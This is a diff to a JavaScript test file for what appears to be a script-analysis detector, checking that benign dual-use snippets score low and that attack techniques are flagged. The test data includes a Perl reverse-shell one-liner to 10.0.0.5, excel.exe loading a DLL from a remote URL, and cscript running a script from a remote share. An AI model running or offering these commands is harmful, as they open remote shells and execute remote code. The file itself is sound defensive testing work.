@@ -169,6 +169,7 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
       'use IO::Socket::INET;\nmy $sock = IO::Socket::INET->new("$host:443") or die;\nwhile (<$sock>) { print $_ }\n',
       'my %ns = (xsd => "http://www.w3.org/2001/XMLSchema");\n# open in Excel http://www.example.org/spec.html\n',
       'execFile("cscript", ["//E:JScript", "//Nologo", path.join(__dirname, "regList.wsf")]);',
+      "const cscript = 'c:\\\\windows\\\\system32\\\\cscript.exe'",
     ];
     for (const text of quiet) expect(['info', 'low']).toContain(worst(text));
     const codes = Array.from({ length: 25 }, (_, i) => `chr(${40 + i})`).join('\n');
@@ -180,6 +181,7 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
     expect(technique('use IO::Socket;$c=IO::Socket::INET->new("10.0.0.5:443");while(<$c>){system $_}', 'revshell.perl')?.severity).toBe('critical');
     expect(technique('excel.exe http://203.0.113.9/addin.dll', 'lolbin.signed_binary_url')).toBeDefined();
     expect(technique('cscript //E:JScript C:\\Users\\Public\\notes.txt', 'lolbin.script_host_remote')).toBeDefined();
+    expect(technique('cscript //nologo \\\\10.0.0.5\\share\\a.vbs', 'lolbin.script_host_remote')).toBeDefined();
   });
   it('WScript.Shell running a program is a named low capability', () => {
     const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
